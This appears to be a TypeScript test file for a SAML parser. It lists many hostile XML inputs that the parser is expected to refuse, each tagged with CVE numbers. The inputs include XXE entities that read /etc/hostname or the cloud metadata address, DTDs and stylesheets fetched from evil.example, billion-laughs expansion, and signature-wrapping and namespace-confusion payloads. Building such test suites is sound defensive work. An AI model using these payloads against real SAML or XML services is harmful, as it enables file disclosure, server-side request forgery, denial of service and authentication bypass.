import type { Attack, AttackFamily } from '../support/attack';
import { assertionOf, beforeStatus, extensions, idOf, withAssertion } from '../support/loot';
import { change } from '../../support/change';

/** In front of the root, where nothing is signed. */
const before = (name: string, text: string, ids?: readonly string[]): Attack => ({
  name,
  ids,
  forge: (message) => text + message,
  code: 'saml.malformed',
});

/** In the Response, beside the assertion: no signature covers it. */
const inside = (name: string, text: string, ids?: readonly string[]): Attack => ({
  name,
  ids,
  forge: (message) => beforeStatus(message, text),
  code: 'saml.malformed',
});

const XXE = [
  'CVE-2013-6440',
  'CVE-2014-3530',
  'CVE-2013-4517',
  'CVE-2016-9318',
  'CVE-2016-10127',
  'CVE-2016-10149',
  'CVE-2017-1000061',
  'CVE-2018-2492',
  'CVE-2019-7442',
  'CVE-2022-23170',
  'CVE-2022-32285',
  'CVE-2022-35741',
  'CVE-2024-22024',
  'CVE-2024-52806',
  'CVE-2026-28809',
];
const EXPANSION = ['CVE-2024-22023', 'CVE-2023-32706'];
const ROUND_TRIP = [
  'CVE-2020-15216',
  'CVE-2020-26276',
  'CVE-2020-26290',
  'CVE-2020-27846',
  'CVE-2020-29509',
  'CVE-2020-29510',
  'CVE-2020-29511',
  'CVE-2024-47832',
];

const LAUGHS = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

const documentTypes: readonly Attack[] = [
  before('a DOCTYPE', '<!DOCTYPE r>'),
  before('an external entity of a file', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>', XXE),
  before(
    'an external entity of an address',
    '<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/">]>',
    XXE,
  ),
  before('an external document type', '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd">', XXE),
  before('a parameter entity', '<!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.example/d">%d;]>', XXE),
  before('a billion laughs', `<!DOCTYPE r [<!ENTITY l0 "ha">${LAUGHS}]>`, EXPANSION),
  before(
    'an entity of a hundred thousand characters',
    `<!DOCTYPE r [<!ENTITY q "${'q'.repeat(100_000)}">]>`,
    EXPANSION,
  ),
  before('a notation with quotes that hide a document', `<!DOCTYPE r [ <!NOTATION x SYSTEM 'x">]><!--'> ]>`, [
    'CVE-2025-25291',
  ]),
  before('an attribute by default', '<!DOCTYPE r [<!ATTLIST saml:Assertion ID CDATA "_evil">]>'),
  {
    name: 'an ID that an entity writes',
    ids: ['CVE-2025-23369'],
    forge: (message, loot) => {
      const id = idOf(assertionOf(message));
      const plain = loot.evil();
      const evil = change(plain, `ID="${idOf(plain)}"`, 'ID="&i;"');
      return `<!DOCTYPE r [<!ENTITY i "${id}">]>${withAssertion(message, evil + assertionOf(message))}`;
    },
    code: 'saml.malformed',
  },
  before('an ID by declaration', '<!DOCTYPE r [<!ATTLIST x y ID #IMPLIED>]>', ['CVE-2025-25292']),
  before(
    'a namespace by default',
    '<!DOCTYPE r [<!ATTLIST x xmlns CDATA "http://www.w3.org/2000/09/xmldsig#">]>',
    ['CVE-2025-25292', 'CVE-2025-66567'],
  ),
  before('a public identifier', `<!DOCTYPE r PUBLIC "-//x//" 'y'>`, ['CVE-2021-21366']),
  before('a DOCTYPE in small letters', '<!doctype r>'),
  before('a directive with a comment in it', '<!x<!-- --> y>', ROUND_TRIP),
  inside('a DOCTYPE inside', '<!DOCTYPE r>'),
  inside('an entity that nobody declared', '<samlp:Extensions>&x;</samlp:Extensions>', ['CVE-2018-0486']),
  inside('an entity of HTML', '<samlp:Extensions>&nbsp;</samlp:Extensions>'),
];

const markup: readonly Attack[] = [
  {
    name: 'a second root behind',
    ids: ['CVE-2022-39353', 'CVE-2022-39299', 'CVE-2022-23505'],
    forge: (message, loot) => message + loot.forged(),
    code: 'saml.malformed',
  },
  {
    name: 'a second root in front',
    ids: ['CVE-2022-39353', 'CVE-2022-39299'],
    forge: (message, loot) => loot.forged() + message,
    code: 'saml.malformed',
  },
  { name: 'text behind the root', forge: (message) => `${message}x`, code: 'saml.malformed' },
  before('text in front of the root', 'x'),
  inside('a CDATA section', '<![CDATA[<x>]]>'),
  inside('a CDATA section that is not closed', '<![CDATA[<x>'),
  inside('a processing instruction', '<?x y?>', ['CVE-2025-54369', 'CVE-2025-54419']),
  before('a style sheet', '<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>'),
  inside('an XML declaration inside', '<?xml version="1.0"?>'),
  inside('a comment that holds --', '<!-- a -- b -->'),
  inside('a comment that is not closed', '<!-- a'),
  inside(']]> in text', ']]>'),
  inside('an ampersand alone', 'a & b'),
  inside('a reference to NUL', '&#0;'),
  inside('a reference to half of a character', '&#xD800;'),
  inside('a reference beyond all characters', '&#x110000;'),
  inside('a control character', '\u0001'),
  inside('a character that is none', '\uFFFF'),
  inside('a name that begins with a colon', '<:x/>', ROUND_TRIP),
  inside('a name of two colons', '<samlp::x/>', ROUND_TRIP),
  inside('an attribute that begins with colons', '<x ::y="z"/>', ROUND_TRIP),
  inside('a prefix that is nowhere declared', '<nowhere:x/>'),
  inside('an attribute twice', '<x y="1" y="2"/>'),
  inside(
    'an attribute twice under two prefixes of one namespace',
    '<x xmlns:a="urn:a" xmlns:b="urn:a" a:y="1" b:y="2"/>',
  ),
  inside('an attribute without quotes', '<x y=z/>'),
  inside('a < in an attribute', '<x y="<"/>'),
  inside('attributes of an end tag', '<x></x y="z">'),
  inside('tags that cross', '<x><y></x></y>'),
  inside('an element that is not closed', '<x>'),
  before('XML 1.1', '<?xml version="1.1"?>'),
  before('XML 9.9', '<?xml version="9.9" encoding="???"?>', ['CVE-2019-9628']),
  before('UTF-16 by name', '<?xml version="1.0" encoding="UTF-16"?>'),
  before('UTF-7 by name', '<?xml version="1.0" encoding="UTF-7"?>'),
  before('EBCDIC by name', '<?xml version="1.0" encoding="IBM037"?>'),
  before('an XML declaration twice', '<?xml version="1.0"?><?xml version="1.0"?>'),
  before('a byte order mark', '\uFEFF'),
  before('a zero-width blank', '\u200B'),
];

const sizes: readonly Attack[] = [
  inside('elements in one another, ten thousand deep', '<x>'.repeat(10_000) + '</x>'.repeat(10_000), [
    'CVE-2022-0903',
    'CVE-2026-41673',
    'CVE-2018-0765',
  ]),
  inside('thirty elements in one another', '<x>'.repeat(33) + '</x>'.repeat(33)),
  inside('a hundred attributes', `<x ${Array.from({ length: 100 }, (_, n) => `a${n}=""`).join(' ')}/>`),
  inside(
    'a hundred namespaces',
    `<x ${Array.from({ length: 100 }, (_, n) => `xmlns:a${n}="urn:a"`).join(' ')}/>`,
  ),
  inside('thirty thousand elements', '<x/>'.repeat(30_000), ['CVE-2023-40593']),
  inside('a name of ten thousand characters', `<${'x'.repeat(10_000)}/>`),
];

const NAMESPACES = 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"';

const namespaces: readonly Attack[] = [
  {
    name: 'the protocol under the namespace of SAML 1.1',
    forge: (message) => message.replaceAll('SAML:2.0:protocol', 'SAML:1.0:protocol'),
    code: 'saml.malformed',
  },
  {
    name: 'the assertion under the namespace of SAML 1.1',
    ids: ['CVE-2023-37471'],
    forge: (message) => message.replaceAll('SAML:2.0:assertion"', 'SAML:1.0:assertion"'),
    code: 'saml.malformed',
  },
  {
    name: 'the protocol without a namespace',
    forge: (message) => change(message, NAMESPACES, 'xmlns:samlp="urn:x"'),
    code: 'saml.malformed',
  },
  inside('the prefix xml bound to another namespace', '<x xmlns:xml="urn:x"/>', ['CVE-2025-25292']),
  inside(
    'another prefix bound to the namespace of xml',
    '<x xmlns:y="http://www.w3.org/XML/1998/namespace"/>',
    ['CVE-2025-25292'],
  ),
  inside('the prefix xmlns declared', '<x xmlns:xmlns="urn:x"/>'),
  inside('a prefix undeclared', '<x xmlns:samlp=""/>'),
  inside('a namespace that is relative', '<x xmlns:y="1"/>', ['CVE-2025-66568']),
  inside('a namespace with markup in it', '<x xmlns:y="urn:&quot;&gt;&lt;saml:Assertion"/>', [
    'CVE-2021-32796',
  ]),
  inside('a prefix declared twice', '<x xmlns:y="urn:1" xmlns:y="urn:2"/>'),
  {
    name: 'the prefix of the assertion bound to another namespace',
    forge: (message) =>
      message.replaceAll('xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"', 'xmlns:saml="urn:x"'),
    code: 'saml.malformed',
  },
  {
    name: 'a default namespace put around the Signature’s content',
    forge: (message) => change(message, '<SignedInfo>', '<SignedInfo xmlns="urn:x">'),
    code: 'saml.signature_invalid',
  },
  {
    name: 'an element of the signature’s namespace that only seems one',
    ids: ['CVE-2025-25292'],
    forge: (message) =>
      beforeStatus(
        message,
        extensions(
          '<ds:Signature xmlns:ds="urn:ds"><x xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:Signature/></x></ds:Signature>',
        ),
      ).replace('<SignatureValue>', '<SignatureValue>A'),
    code: 'saml.signature_invalid',
  },
];

export const parsers: AttackFamily = {
  name: 'parsers',
  why: 'Two readers of one document see two documents; and a reader that loads what a document names can be made to fetch, or to work for ever. Here there is one parser, of a corner of XML, and what is outside of the corner or beyond a limit is refused.',
  attacks: [...documentTypes, ...markup, ...sizes, ...namespaces],
};
